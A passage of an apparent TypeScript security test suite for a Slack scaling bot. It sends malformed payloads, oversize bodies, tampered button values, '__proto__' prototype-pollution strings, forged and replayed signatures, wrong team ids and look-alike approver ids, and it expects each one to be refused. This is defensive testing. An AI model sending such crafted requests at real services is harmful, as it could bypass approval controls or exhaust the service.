    { title: 'form a=1&b=2 (no payload, no command)', send: raw('a=1&b=2', 'application/x-www-form-urlencoded') },
    { title: 'empty body', send: raw('', 'application/x-www-form-urlencoded') },
    { title: 'form "payload" (no value)', send: raw('payload', 'application/x-www-form-urlencoded') },
    { title: 'form payload= (empty)', send: raw('payload=', 'application/x-www-form-urlencoded') },
    { title: 'form payload twice', send: raw('payload=%7B%7D&payload=%7B%7D', 'application/x-www-form-urlencoded') },
    { title: 'form payload=null', send: raw('payload=null', 'application/x-www-form-urlencoded') },
    // Payloads that are not JSON.
    { title: 'payload {not json', send: raw(payloadBody('{not json'), 'application/x-www-form-urlencoded') },
    { title: "payload {'type':'block_actions'} (single quotes)", send: raw(payloadBody("{'type':'block_actions'}"), 'application/x-www-form-urlencoded') },
    { title: 'payload undefined', send: raw(payloadBody('undefined'), 'application/x-www-form-urlencoded') },
    { title: 'payload NaN', send: raw(payloadBody('NaN'), 'application/x-www-form-urlencoded') },
    { title: 'payload of random characters', send: raw(payloadBody(garbage(rng.int(20, 200))), 'application/x-www-form-urlencoded') },
    ((u = userOf('U0MF')) => ({ title: 'payload: a real click cut in half', user: u, send: (c: Case, w: World) => sendAction(c, w, (w2) => pressOf(w2, card('uk1'), 'approve', u), (json) => json.slice(0, Math.floor(json.length / 2))) }))(),
    { title: 'payload 12345 (a number)', send: raw(payloadBody('12345'), 'application/x-www-form-urlencoded') },
    // JSON of the wrong shape.
    shaped('block_actions without actions', (p) => delete p.actions),
    shaped('actions is a string', (p) => (p.actions = 'scalebot_approve')),
    shaped('actions is a number', (p) => (p.actions = 5)),
    shaped('actions is an object', (p) => (p.actions = { action_id: 'scalebot_approve' })),
    shaped('actions is []', (p) => (p.actions = [])),
    shaped('actions is [null]', (p) => (p.actions = [null])),
    shaped('actions is [5]', (p) => (p.actions = [5])),
    shaped('no user', (p) => delete p.user),
    shaped('user is null', (p) => (p.user = null)),
    shaped('user is a string', (p) => (p.user = 'U0MFSTRING')),
    shaped('user without an id', (p) => (p.user = { name: 'x' })),
    shaped('no channel', (p) => delete p.channel),
    shaped('no channel, a scalebot button', (p) => delete p.channel, undefined, { type: 'button', action_id: 'scalebot_approve', value: 'garbage' }),
    shaped('no message, no container', (p) => { delete p.message; delete p.container; }),
    shaped('no type', (p) => delete p.type),
    shaped('action_id is a number', (p) => ((p.actions as Record<string, unknown>[])[0]!.action_id = 42)),
    shaped('checkboxes without selected_options', () => undefined, undefined, { type: 'checkboxes', action_id: 'scalebot_tick', block_id: 'tick|run-abcdefgh|pre-scale|0' }),
    shaped('checkboxes with selected_options [null]', () => undefined, undefined, { type: 'checkboxes', action_id: 'scalebot_tick', block_id: 'tick|run-abcdefgh|pre-scale|0', selected_options: [null] }),
    ...['weird', 'view_submission', 'shortcut', 'message_action', 'block_suggestion', 'interactive_message', 'dialog_submission', 'event_callback'].map((type) => shaped(`unknown type ${JSON.stringify(type)}`, (p) => (p.type = type))),
    (() => {
      const user = userOf('U0MF');
      // JSON.stringify cannot write a "__proto__" key: it is spliced into the JSON text.
      const pollute = '"__proto__":{"admin":true,"user":{"id":"U0BOB"}},"constructor":{"prototype":{"admin":true}},';
      return {
        title: '__proto__ and constructor.prototype keys at the top, in user and in the action',
        user,
        send: (c: Case, w: World) =>
          sendAction(c, w, (w2) => actionOf(w2, card('uk1'), { type: 'button', action_id: 'not_ours', value: 'x' }, user), (json) =>
            json.replace(/^\{/, `{${pollute}`).replace('"user":{', `"user":{${pollute}`).replace('"actions":[{', `"actions":[{${pollute}`),
          ),
      };
    })(),
    // Huge JSON.
    shaped('1.5 MB payload (a junk field)', (p) => (p.junk = 'j'.repeat(1_500_000))),
    shaped('15 000 actions', (p) => (p.actions = Array.from({ length: 15_000 }, (_, i) => ({ type: 'button', action_id: `not_ours_${i}`, value: 'x', action_ts: `${i}` })))),
    { title: '1.5 MB JSON body of nested arrays (750 000 deep)', send: raw('['.repeat(750_000) + ']'.repeat(750_000), 'application/json') },
    // Commands of the wrong shape.
    cmd('command form without "command"', 'help', { command: undefined }),
    cmd('command /other', 'help', { command: '/other' }),
    ((user = userOf('U0MF')) => ({ title: 'command with its text field twice', user, send: (c: Case, w: World) => { const { body, responseId } = commandOf(w, 'help', user); c.responseId = responseId; return post(w, `${body}&text=status`); } }))(),
    cmd('command without user_id', 'help', { user_id: undefined }),
    cmd('command without response_url', 'status', { response_url: undefined }),
  ];
  return specs.map((s, i): Case => {
    const c: Case = {
      category: 'malformed payloads',
      title: `#${String(i + 1).padStart(2, '0')} ${s.title}`,
      expect: 'answer',
      user: s.user,
      known: s.known,
      isolated: s.isolated,
      send: (w) => s.send(c, w),
    };
    return c;
  });
});

// ---------------------------------------------------------------------------------------------
// 3. Oversize bodies, beyond anything Slack sends (its commands carry a few kB at most). Each goes
//    on a connection of its own: the bot may close it after a 413.

category('oversize bodies', () => {
  const rng = rngFor('oversize');
  const MB = 1024 * 1024;
  type Spec = { title: string; expect: Expectation; user?: string; send: (c: Case, w: World) => Promise<Sent> };
  const signedAlone = (c: Case, w: World, body: string, extra: Record<string, string> = {}) => postAlone(w, body, { ...w.driver.sign(body), ...extra });
  const specs: Spec[] = [];
  // Command texts: refused in the ack, whatever their size (under Bolt's 4 MB limit).
  for (const [lo, hi] of [[1001, 4000], [4001, 40_000], [40_001, 400_000], [400_001, 3_900_000]] as const) {
    for (let k = 0; k < 2; k++) {
      const size = rng.int(lo, hi);
      const user = userOf('U0OS');
      const filler = rng.pick(['x', '9', '“', '<!channel>', 'é', ' a']);
      specs.push({
        title: `command text of ${size} characters of ${JSON.stringify(filler)}`,
        expect: 'answer',
        user,
        send: (c, w) => {
          const { body, responseId } = commandOf(w, `api-gateway ${filler.repeat(Math.ceil(size / filler.length)).slice(0, size)}`, user);
          c.responseId = responseId;
          return signedAlone(c, w, body);
        },
      });
    }
  }
  // A valid command with a huge extra field: served (help), answered on its response_url.
  for (const size of [rng.int(100_000, 500_000), rng.int(1 * MB, 2 * MB), rng.int(3 * MB, Math.floor(3.8 * MB))]) {
    const user = userOf('U0OS');
    specs.push({
      title: `/scale help with a junk form field of ${size} bytes`,
      expect: 'answer',
      user,
      send: (c, w) => {
        const { body, responseId } = commandOf(w, 'help', user);
        c.responseId = responseId;
        return signedAlone(c, w, `${body}&junk=${'j'.repeat(size)}`);
      },
    });
  }
  // Clicks with a huge payload.
  for (const size of [rng.int(100_000, 500_000), rng.int(1 * MB, 2 * MB), rng.int(2 * MB, 3 * MB), rng.int(3 * MB, Math.floor(3.7 * MB))]) {
    const user = userOf('U0OS');
    const onCard = rng.chance(0.5);
    specs.push({
      title: `${onCard ? 'an unknown control on a card' : 'a tampered approve'} with ${size} bytes of junk in the payload`,
      expect: 'answer',
      user,
      send: (c, w) => {
        const { payload, responseId } = actionOf(w, card('uk1'), onCard ? { type: 'button', action_id: 'not_ours', value: 'x' } : { type: 'button', action_id: 'scalebot_approve', value: 'v'.repeat(size) }, user);
        c.responseId = responseId;
        if (onCard) payload.junk = 'j'.repeat(size);
        return signedAlone(c, w, payloadBody(JSON.stringify(payload)));
      },
    });
  }
  // Thousands of form fields before the real ones.
  for (const n of [rng.int(1_000, 5_000), rng.int(50_000, 100_000)]) {
    const user = userOf('U0OS');
    specs.push({
      title: `${n} junk form fields before a /scale help command`,
      expect: 'answer',
      user,
      send: (c, w) => {
        const { body, responseId } = commandOf(w, 'help', user);
        c.responseId = responseId;
        return signedAlone(c, w, `${Array.from({ length: n }, (_, i) => `f${i}=1`).join('&')}&${body}`);
      },
    });
  }
  // Beyond Bolt's 4 MB body limit: 413, signed or not.
  for (const size of [4 * MB + 1, rng.int(5 * MB, 6 * MB), rng.int(8 * MB, 10 * MB), rng.int(12 * MB, 16 * MB)]) {
    const signed = rng.chance(0.5);
    specs.push({
      title: `${signed ? 'signed' : 'unsigned'} command body of ${size} bytes`,
      expect: 'too-large',
      send: (_c, w) => {
        const body = `text=${'x'.repeat(size - 5)}`;
        return postAlone(w, body, signed ? w.driver.sign(body) : {});
      },
    });
  }
  specs.push({
    title: '6 MB payload sent chunked (no content-length)',
    expect: 'too-large',
    send: (_c, w) =>
      new Promise<Sent>((resolve) => {
        let answered = false;
        const req = httpRequest(`${w.bot.url}/slack/events`, { method: 'POST', agent: false, headers: { 'content-type': 'application/x-www-form-urlencoded', 'transfer-encoding': 'chunked', ...w.driver.sign('') } }, (res) => {
          answered = true;
          res.resume();
          res.on('end', () => resolve({ status: res.statusCode ?? 0, body: '' }));
          res.on('error', () => resolve({ status: res.statusCode ?? 0, body: '' }));
        });
        req.on('error', (error: NodeJS.ErrnoException) => setTimeout(() => resolve({ status: 0, body: '', error: error.code }), 300));
        const chunk = Buffer.alloc(64 * 1024, 'p');
        let sent = 0;
        const write = () => {
          while (sent < 96 && !answered) {
            sent++;
            if (!req.write(chunk)) return void req.once('drain', write);
          }
          req.end();
        };
        req.write('payload=');
        write();
      }),
  });
  // Headers beyond Node's 16 kB limit: 431.
  for (const [name, size] of [['x-slack-signature', rng.int(17_000, 40_000)], ['x-junk', rng.int(20_000, 60_000)], ['cookie', rng.int(17_000, 30_000)]] as const) {
    specs.push({
      title: `a ${name} header of ${size} bytes`,
      expect: 'too-large',
      send: (_c, w) => {
        const body = new URLSearchParams({ payload: '{}' }).toString();
        return postAlone(w, body, { ...w.driver.sign(body), [name]: `v0=${'a'.repeat(size)}` });
      },
    });
  }
  return specs.map((s, i): Case => {
    const c: Case = { category: 'oversize bodies', title: `#${String(i + 1).padStart(2, '0')} ${s.title}`, expect: s.expect, user: s.user, send: (w) => s.send(c, w) };
    return c;
  });
});

// ---------------------------------------------------------------------------------------------
// 4. Tampered button values and checkbox block ids, clicked by real approvers (members of S0SRE)
//    on the cards of tp-1 and tp-2: none may change any run.

category('tampered button values', () => {
  const rng = rngFor('tampered');
  const runOf = (key: RunKey) => () => runIds[key];
  const others: RunKey[] = ['ua1', 'ua2', 'wtA', 'fg1', 'uk1'];
  const intents = ['approve', 'reject', 'cancel', 'rerun', 'rollback', 'close'];
  /** A JSON value text; `self` is the run of the card clicked. */
  type Raw = { title: string; text: (self: string, v: number) => string; action?: string; known?: Known };
  const raws: Raw[] = [];
  const json = (title: string, make: (self: string, v: number) => unknown, action = 'scalebot_approve') => raws.push({ title, text: (self, v) => JSON.stringify(make(self, v)), action });
  const text = (title: string, make: (self: string, v: number) => string, action = 'scalebot_approve') => raws.push({ title, text: make, action });
  // Another run's id on this card (the run exists, its card is elsewhere).
  for (const other of rng.some(others, 4)) {
    const intent = rng.pick(['approve', 'reject', 'cancel']);
    json(`another run's id (${RUNS[other].service}), intent ${intent}`, (_s, v) => ({ r: runOf(other)(), i: intent, v }), `scalebot_${intent}`);
  }
  const nowhere = `run-${'z'.repeat(rng.int(4, 20))}`;
  json(`a run id that exists nowhere (${nowhere})`, (_s, v) => ({ r: nowhere, i: 'approve', v }));
  for (const r of ['run-', 'RUN-ABCDEFGH', 'run-abc/../x', `run-${'a'.repeat(21)}`, '', ' run-abcdefgh', 'run-abcdefgh\n']) json(`malformed run id ${JSON.stringify(r)}`, (_s, v) => ({ r, i: 'approve', v }));
  json('run id is a number', (_s, v) => ({ r: 12345, i: 'approve', v }));
  // The intent does not match the action id.
  for (let k = 0; k < 4; k++) {
    const [intent, action] = rng.some(intents, 2) as [string, string];
    json(`intent ${intent} on the ${action} action`, (self, v) => ({ r: self, i: intent, v }), `scalebot_${action}`);
  }
  for (const i of ['execute', 'APPROVE', 'approve ', 'delete', '', 'tick']) json(`unknown intent ${JSON.stringify(i)}`, (self, v) => ({ r: self, i, v }), `scalebot_${i}`);
  // Revisions.
  for (const [title, v] of [['-1', -1], ['-1e9', -1e9], ['1e7', 1e7], ['1e21', 1e21], ['1.5', 1.5], ['"1" (a string)', '1'], ['null', null], ['true', true], ['[]', []], ['{}', {}]] as const) {
    json(`revision ${title}`, (self) => ({ r: self, i: 'approve', v }));
  }
  json('an old revision (shown - 1)', (self, v) => ({ r: self, i: 'approve', v: v - 1 }));
  json('a future revision (shown + 1000)', (self, v) => ({ r: self, i: 'approve', v: v + 1000 }));
  text('revision NaN (not JSON)', (self) => `{"r":"${self}","i":"approve","v":NaN}`);
  // Extra fields, prototype pollution.
  json('an extra field approved: true', (self, v) => ({ r: self, i: 'approve', v, approved: true }));
  json('an extra field x (rerun)', (self, v) => ({ r: self, i: 'rerun', v, x: 1 }), 'scalebot_rerun');
  text('{"__proto__":{"x":1}} with a valid value', (self, v) => `{"__proto__":{"x":1},"r":"${self}","i":"approve","v":${v}}`);
  text('{"constructor":{"prototype":{"x":1}}} with a valid value', (self, v) => `{"constructor":{"prototype":{"x":1}},"r":"${self}","i":"approve","v":${v}}`);
  text('{"__proto__":{"r":…,"i":"approve","v":…}} only', (self, v) => `{"__proto__":{"r":"${self}","i":"approve","v":${v}}}`);
  text('a duplicated key (i: approve, then i: reject)', (self, v) => `{"r":"${self}","i":"approve","v":${v},"i":"reject"}`);
  // Not JSON, or not an object.
  for (const t of ['approve', '{"r":', '[]', 'null', '1', '"str"', ' ', `{'r':'x'}`]) text(`value ${JSON.stringify(t)}`, () => t);
  // 10 kB values.
  json('a 10 kB value (padding field)', (self, v) => ({ r: self, i: 'approve', v, pad: 'p'.repeat(10_000) }));
  json('a 10 kB run id', (_s, v) => ({ r: `run-${'a'.repeat(10_000)}`, i: 'approve', v }));

  type Spec = { title: string; target: RunKey; known?: Known; build: (w: World, user: string) => { payload: Record<string, unknown>; responseId: string } };
  const specs: Spec[] = raws.map((r) => {
    const target = rng.pick<RunKey>(['tp1', 'tp2']);
    return {
      title: `button value: ${r.title}`,
      target,
      known: r.known,
      build: (w, user) => {
        const shown = shownValue(target);
        return actionOf(w, card(target), { type: 'button', action_id: r.action ?? 'scalebot_approve', block_id: `buttons|${shown.r}`, value: r.text(shown.r, shown.v) }, user);
      },
    };
  });
  specs.push({ title: 'button without a value', target: 'tp1', build: (w, user) => actionOf(w, card('tp1'), { type: 'button', action_id: 'scalebot_approve' }, user) });
  specs.push({ title: 'button value is a number', target: 'tp2', build: (w, user) => actionOf(w, card('tp2'), { type: 'button', action_id: 'scalebot_approve', value: 1 }, user) });
  // Checkbox block ids naming other runs, or malformed; and options that are not on the card.
  for (const other of rng.some(others, 2)) {
    specs.push({ title: `checkbox block id naming another run (${RUNS[other].service})`, target: 'tp1', build: (w, user) => tickOf(w, card('tp1'), user, `tick|${runIds[other]}|pre-scale|0`) });
  }
  for (const blockId of ['tick|run-zzzzzzzz|pre-scale|0', 'tick|', 'tick|RUN-ABCDEFGH|pre-scale|0', 'tick|@self|pre-scale', 'tick|@self|pre-scale|0|x', 'buttons|@self', '', `tick|@self|${'p'.repeat(10_000)}|0`]) {
    specs.push({ title: `checkbox block id ${show(blockId, 40)}`, target: 'tp2', build: (w, user) => tickOf(w, card('tp2'), user, blockId.replace('@self', runIds.tp2)) });
  }
  specs.push({ title: 'checkboxes without a block id', target: 'tp1', build: (w, user) => { const a = tickOf(w, card('tp1'), user); delete (a.payload.actions as Record<string, unknown>[])[0]!.block_id; return a; } });
  specs.push({ title: 'checkbox options that are not on the card', target: 'tp1', build: (w, user) => tickOf(w, card('tp1'), user, undefined, [{ value: 'approve' }, { value: '__proto__' }, { value: 'execute' }]) });

  return specs.map((s, i): Case => {
    const user = nextApprover();
    const c: Case = {
      category: 'tampered button values',
      title: `#${String(i + 1).padStart(2, '0')} ${s.title} (on ${RUNS[s.target].service}, by approver ${user})`,
      expect: 'answer',
      user,
      known: s.known,
      send: (w) => sendAction(c, w, (w2) => s.build(w2, user)),
    };
    return c;
  });
});

// ---------------------------------------------------------------------------------------------
// 5. Unknown action ids and block action types, on the uk-1 card, by people outside the policy.

category('unknown actions', () => {
  const rng = rngFor('unknown');
  const actionIds = ['delete_everything', 'scalebot', 'scalebot_', 'scalebot_execute', 'scalebot_approve ', 'SCALEBOT_APPROVE', 'Scalebot_approve', '', 'scalebot_tick_all', '__proto__', 'constructor', 'toString', 'x'.repeat(5000), '🚀', 'scalebot_\u200bapprove', 'scalebot_approve\u0000', 'hasOwnProperty', 'scalebot_scale'];
  const types = ['button', 'static_select', 'overflow', 'datepicker', 'radio_buttons', 'plain_text_input', 'users_select', 'multi_static_select', 'timepicker', 'conversations_select', 'rich_text_input', 'checkboxes', 'workflow_button', 'unknown_type', ''];
  const specs: { title: string; action: (w: World) => Record<string, unknown> }[] = [];
  // Every odd action id once, then random pairs.
  const pairs: [string, string][] = actionIds.map((id) => [id, rng.pick(types)]);
  while (pairs.length < 30) pairs.push([rng.pick(actionIds), rng.pick(types)]);
  for (const [actionId, type] of pairs) {
    const withValue = rng.chance(0.5);
    specs.push({
      title: `${type || '(empty type)'} ${show(actionId, 40)}${withValue ? ' carrying the card\'s real approve value' : ''}`,
      action: () => ({
        ...(type ? { type } : {}),
        action_id: actionId,
        ...(withValue ? { value: JSON.stringify(shownValue('uk1')) } : {}),
        ...(type === 'checkboxes' ? { selected_options: [] } : {}),
        ...(type.includes('select') ? { selected_option: { value: 'approve' } } : {}),
        ...(type === 'datepicker' ? { selected_date: '2026-11-23' } : {}),
      }),
    });
  }
  specs.push({ title: 'button without an action_id', action: () => ({ type: 'button', value: 'x' }) });
  specs.push({ title: 'scalebot_approve as a static_select whose option carries the real value', action: () => ({ type: 'static_select', action_id: 'scalebot_approve', selected_option: { value: JSON.stringify(shownValue('uk1')) } }) });
  specs.push({ title: 'scalebot_tick as a button with the real approve value', action: () => ({ type: 'button', action_id: 'scalebot_tick', value: JSON.stringify(shownValue('uk1')) }) });
  return specs.map((s, i): Case => {
    const user = userOf('U0UK');
    const c: Case = {
      category: 'unknown actions',
      title: `#${String(i + 1).padStart(2, '0')} ${s.title}`,
      expect: 'answer',
      user,
      send: (w) => sendAction(c, w, (w2) => actionOf(w2, card('uk1'), s.action(w2), user)),
    };
    return c;
  });
});

// ---------------------------------------------------------------------------------------------
// 6. A wrong team: signed commands and clicks whose team is not the bot's (auth.test says T0TEAM).
//    They must be answered and change nothing; the people sending them are real approvers.

/** What a served request looks like (a refusal must look like none of these). */
const SERVED = /Run `run-[a-z0-9]+` opened|is busy|\/scale <service> <replicas>|cancelled; nothing|No active runs|Active runs|last runs|Approved by|ticked/;

category('wrong team', () => {
  const rng = rngFor('team');
  const teams = ['T0OTHER', 'T0TEAMX', 't0team', 'T0TEAM ', ' T0TEAM', 'E0ENTERPRISE', `T${'9'.repeat(60)}`, 'T0TÉAM', 'T0TEAM\u200b', 'T0TEA', 'TOTEAM', `T${Array.from({ length: 9 }, () => rng.pick([...'ABCDEFGHJKLMNPQRSTUVWXYZ0123456789'])).join('')}`];
  type Spec = { title: string; known?: Known; send: (c: Case, w: World, user: string) => Promise<Sent> };
  const specs: Spec[] = [];
  // Commands.
  const texts = () => [`wt-svc ${rng.int(3, 50)}`, 'help', 'status', `cancel @wtC`, 'history wt-svc', `wt-svc ${rng.int(3, 50)} --dry-run`];
  for (const team of teams) {
    const text = rng.pick(texts());
    specs.push({ title: `/scale ${text} from team_id ${JSON.stringify(team)}`, send: (c, w, user) => sendCommand(c, w, text.replace('@wtC', runIds.wtC), user, { team_id: team }) });
  }
  specs.push({ title: '/scale wt-svc 12 with team_id twice (T0OTHER, then T0TEAM)', send: (c, w, user) => { const { body, responseId } = commandOf(w, 'wt-svc 12', user, { team_id: 'T0OTHER' }); c.responseId = responseId; return post(w, `${body}&team_id=T0TEAM`); } });
  specs.push({ title: '/scale wt-svc2 13 with an empty team_id', send: (c, w, user) => sendCommand(c, w, 'wt-svc2 13', user, { team_id: '' }) });
  specs.push({ title: '/scale wt-svc2 14 without team_id', send: (c, w, user) => sendCommand(c, w, 'wt-svc2 14', user, { team_id: undefined }) });
  // Clicks: approve on wt-a, ticks on wt-b, reject or cancel on wt-c (none may land).
  const click = (key: RunKey, what: string, w: World, user: string) => (what === 'tick' ? tickOf(w, card(key), user) : pressOf(w, card(key), what, user));
  const targets: [RunKey, string][] = [['wtA', 'approve'], ['wtB', 'tick'], ['wtC', 'reject'], ['wtC', 'cancel']];
  for (const team of rng.some(teams, 10)) {
    const [key, what] = rng.pick(targets);
    const where = rng.pick(['team.id and user.team_id', 'team.id only', 'user.team_id only (team null)']);
    specs.push({
      title: `${what} on ${RUNS[key].service} from ${where} ${JSON.stringify(team)}`,
      send: (c, w, user) =>
        sendAction(c, w, (w2) => {
          const a = click(key, what, w2, user);
          if (where !== 'user.team_id only (team null)') a.payload.team = { id: team, domain: 'other' };
          else a.payload.team = null;
          if (where !== 'team.id only') (a.payload.user as Record<string, unknown>).team_id = team;
          return a;
        }),
    });
  }
  specs.push({
    title: 'approve on wt-a with top-level team_id T0OTHER (team.id T0TEAM)',
    send: (c, w, user) => sendAction(c, w, (w2) => { const a = pressOf(w2, card('wtA'), 'approve', user); a.payload.team_id = 'T0OTHER'; return a; }),
  });
  specs.push({
    title: 'approve on wt-d from user.team_id T0OTHER with an empty team.id',
    send: (c, w, user) => sendAction(c, w, (w2) => { const a = pressOf(w2, card('wtD'), 'approve', user); a.payload.team = { id: '' }; (a.payload.user as Record<string, unknown>).team_id = 'T0OTHER'; return a; }),
  });
  specs.push({
    title: 'reject on wt-e with no team anywhere',
    send: (c, w, user) => sendAction(c, w, (w2) => { const a = pressOf(w2, card('wtE'), 'reject', user); delete a.payload.team; delete (a.payload.user as Record<string, unknown>).team_id; return a; }),
  });
  return specs.map((s, i): Case => {
    const user = nextApprover();
    const c: Case = {
      category: 'wrong team',
      title: `#${String(i + 1).padStart(2, '0')} ${s.title} (by approver ${user})`,
      expect: 'answer',
      user,
      known: s.known,
      send: (w) => s.send(c, w, user),
      check: (answer) => [...namesUser(user), ...(answer && answer.kind !== '4xx' && SERVED.test(answer.text) ? [`served: ${answer.text.slice(0, 120)}`] : [])],
    };
    return c;
  });
});

// ---------------------------------------------------------------------------------------------
// 7. Forged signatures, stale timestamps, missing headers: 401 and nothing else. The bodies would
//    open a run, cancel or approve one, or tick its checklist, if they were served.

category('forged signatures', () => {
  const rng = rngFor('forged');
  const now = () => Math.floor(Date.now() / 1000);
  const hmac = (w: World, body: string, ts: number | string, secret = SIGNING_SECRET) => w.driver.sign(body, ts as number, secret)['x-slack-signature']!;
  /** A body; `n` is a replica count drawn when the case is made. */
  type Body = { title: string; make: (c: Case, w: World, user: string, n: number) => string };
  const bodies: Body[] = [
    { title: '/scale fg-svc <n>', make: (c, w, user, n) => { const b = commandOf(w, `fg-svc ${n}`, user); c.responseId = b.responseId; return b.body; } },
    { title: '/scale cancel <fg-1 run>', make: (c, w, user) => { const b = commandOf(w, `cancel ${runIds.fg1}`, user); c.responseId = b.responseId; return b.body; } },
    { title: 'approve on fg-1', make: (c, w, user) => { const a = pressOf(w, card('fg1'), 'approve', user); c.responseId = a.responseId; return payloadBody(JSON.stringify(a.payload)); } },
    { title: 'ticks on fg-1', make: (c, w, user) => { const a = tickOf(w, card('fg1'), user); c.responseId = a.responseId; return payloadBody(JSON.stringify(a.payload)); } },
  ];
  type Spec = { title: string; known?: Known; body?: Body; headers: (w: World, body: string, c: Case, user: string) => Record<string, string> };
  const specs: Spec[] = [];
  const secrets = ['wrong-secret', '', 'test-signing-secret-8f3a9C', `${SIGNING_SECRET} `, 'SIGNING_SECRET', Array.from({ length: 32 }, () => rng.int(0, 15).toString(16)).join('')];
  for (const secret of secrets) specs.push({ title: `signed with the secret ${JSON.stringify(secret)}`, headers: (w, body) => ({ 'x-slack-request-timestamp': String(now()), 'x-slack-signature': hmac(w, body, now(), secret) }) });
  for (const len of [3, 10, 40, 66]) specs.push({ title: `signature truncated to ${len} characters`, headers: (w, body) => ({ 'x-slack-request-timestamp': String(now()), 'x-slack-signature': hmac(w, body, now()).slice(0, len) }) });
  specs.push({ title: 'signature with one more hex digit', headers: (w, body) => ({ 'x-slack-request-timestamp': String(now()), 'x-slack-signature': `${hmac(w, body, now())}0` }) });
  specs.push({ title: 'signature in upper case', headers: (w, body) => ({ 'x-slack-request-timestamp': String(now()), 'x-slack-signature': hmac(w, body, now()).replace(/[a-f]/g, (ch) => ch.toUpperCase()).replace(/^V0/, 'v0') }) });
  for (const [title, rewrite] of [['v1=', (s: string) => s.replace('v0=', 'v1=')], ['V0=', (s: string) => s.replace('v0=', 'V0=')], ['v00=', (s: string) => s.replace('v0=', 'v00=')], ['no version', (s: string) => s.slice(3)], ['sha256=', (s: string) => s.replace('v0=', 'sha256=')], ['v0: (colon)', (s: string) => s.replace('v0=', 'v0:')], ['"=" only', () => '=']] as const) {
    specs.push({ title: `signature version ${title}`, headers: (w, body) => ({ 'x-slack-request-timestamp': String(now()), 'x-slack-signature': rewrite(hmac(w, body, now())) }) });
  }
  // A genuine signature replayed with another body.
  for (const change of ['another command text', 'another user', 'a field appended', 'a click instead of a command']) {
    specs.push({
      title: `a valid signature replayed with ${change}`,
      headers: (w, body, c, user) => {
        const original = change === 'a field appended' ? body.replace(/&x=1$/, '') : commandOf(w, change === 'another user' ? 'help' : 'status', change === 'another user' ? 'U0BOB' : user).body;
        return w.driver.sign(original);
      },
    });
  }
  specs.push({ title: 'timestamp header one second after the signed one', headers: (w, body) => ({ 'x-slack-request-timestamp': String(now() + 1), 'x-slack-signature': hmac(w, body, now()) }) });
  specs.push({ title: 'timestamp header one second before the signed one', headers: (w, body) => ({ 'x-slack-request-timestamp': String(now() - 1), 'x-slack-signature': hmac(w, body, now()) }) });
  // Stale, with a genuine signature.
  for (const age of [301, 600, 3600, 86_400 * 365]) specs.push({ title: `genuinely signed, ${age} s old`, headers: (w, body) => w.driver.sign(body, now() - age) });
  for (const ts of [0, -1]) specs.push({ title: `genuinely signed with timestamp ${ts}`, headers: (w, body) => w.driver.sign(body, ts) });
  // Far future, with a genuine signature: only staleness is checked.
  for (const ahead of [301 + rng.int(0, 60), 3600, 86_400 * 365 * 10]) {
    specs.push({ title: `genuinely signed, ${ahead} s in the future`, body: { title: '/scale ff-svc <n>', make: (c, w, user, n) => { const b = commandOf(w, `ff-svc ${n}`, user); c.responseId = b.responseId; return b.body; } }, headers: (w, body) => w.driver.sign(body, now() + ahead) });
  }
  specs.push({ title: 'genuinely signed with timestamp "Infinity"', body: { title: '/scale help', make: (c, w, user) => { const b = commandOf(w, 'help', user); c.responseId = b.responseId; return b.body; } }, headers: (w, body) => ({ 'x-slack-request-timestamp': 'Infinity', 'x-slack-signature': hmac(w, body, 'Infinity') }) });
  // Missing or empty headers.
  specs.push({ title: 'no signature header', headers: (w, body) => ({ 'x-slack-request-timestamp': w.driver.sign(body)['x-slack-request-timestamp']! }) });
  specs.push({ title: 'no timestamp header', headers: (w, body) => ({ 'x-slack-signature': w.driver.sign(body)['x-slack-signature']! }) });
  specs.push({ title: 'no headers at all', headers: () => ({}) });
  specs.push({ title: 'empty signature and timestamp headers', headers: () => ({ 'x-slack-request-timestamp': '', 'x-slack-signature': '' }) });
  specs.push({ title: 'timestamp "abc"', headers: (w, body) => ({ 'x-slack-request-timestamp': 'abc', 'x-slack-signature': hmac(w, body, 'abc') }) });

  return specs.map((s, i): Case => {
    const user = nextApprover();
    const body = s.body ?? rng.pick(bodies);
    const n = rng.int(3, 50);
    const c: Case = {
      category: 'forged signatures',
      title: `#${String(i + 1).padStart(2, '0')} ${s.title} — ${body.title.replace('<n>', String(n))} (by approver ${user})`,
      expect: 'refused',
      user,
      known: s.known,
      send: (w) => {
        let text = body.make(c, w, user, n);
        const headers = s.headers(w, text, c, user);
        if (s.title.includes('a field appended')) text = `${text}&x=1`;
        if (s.title.includes('a click instead')) text = payloadBody(JSON.stringify(pressOf(w, card('fg1'), 'approve', user).payload));
        return post(w, text, headers);
      },
    };
    return c;
  });
});

// ---------------------------------------------------------------------------------------------
// 8. Unauthorized approvers: approve, reject, rollback, close and cancel from people outside the
//    policy (and look-alikes of approvers' ids), and requesters acting on their own runs.

category('unauthorized approvers', () => {
  const rng = rngFor('unauthorized');
  const runs: RunKey[] = ['ua1', 'ua2', 'ua3'];
  type Spec = { title: string; user: string; build: (w: World) => { payload: Record<string, unknown>; responseId: string } };
  const crafted = (key: RunKey, intent: string, user: string) => (w: World) => {
    const shown = shownValue(key);
    return actionOf(w, card(key), { type: 'button', action_id: `scalebot_${intent}`, block_id: `buttons|${shown.r}`, value: JSON.stringify({ r: shown.r, i: intent, v: shown.v }) }, user);
  };
  const act = (key: RunKey, intent: string, user: string) => (['approve', 'reject', 'cancel'].includes(intent) ? (w: World) => pressOf(w, card(key), intent, user) : crafted(key, intent, user));
  const specs: Spec[] = [];
  const lookalikes = ['u0bob', 'U0BOB ', ' U0BOB', 'U0BO', 'U0BOBB', 'U0CAROL\u200b', 'U0bob', 'W0BOB', 'U0CAROL\n', 'U0B0B'];
  for (let k = 0; k < 14; k++) {
    const user = userOf('U0NA');
    const key = rng.pick(runs);
    const intent = rng.pick(['approve', 'approve', 'reject', 'rollback', 'close', 'cancel']);
    specs.push({ title: `${intent} on ${RUNS[key].service} by ${user}, outside the policy`, user, build: act(key, intent, user) });
  }
  for (const user of lookalikes) {
    const key = rng.pick(runs);
    const intent = rng.pick(['approve', 'reject', 'rollback']);
    specs.push({ title: `${intent} on ${RUNS[key].service} by the look-alike id ${JSON.stringify(user)}`, user, build: act(key, intent, user) });
  }
  for (const key of runs) {
    const requester = RUNS[key].requester;
    for (const intent of ['approve', 'reject', 'rollback', 'close', 'approve']) {
      specs.push({ title: `${intent} on ${RUNS[key].service} by its own requester ${requester}`, user: requester, build: act(key, intent, requester) });
    }
  }
  return specs.map((s, i): Case => {
    const c: Case = {
      category: 'unauthorized approvers',
      title: `#${String(i + 1).padStart(2, '0')} ${s.title}`,
      expect: 'answer',
      user: s.user,
      send: (w) => sendAction(c, w, s.build),
    };
    return c;
  });
});
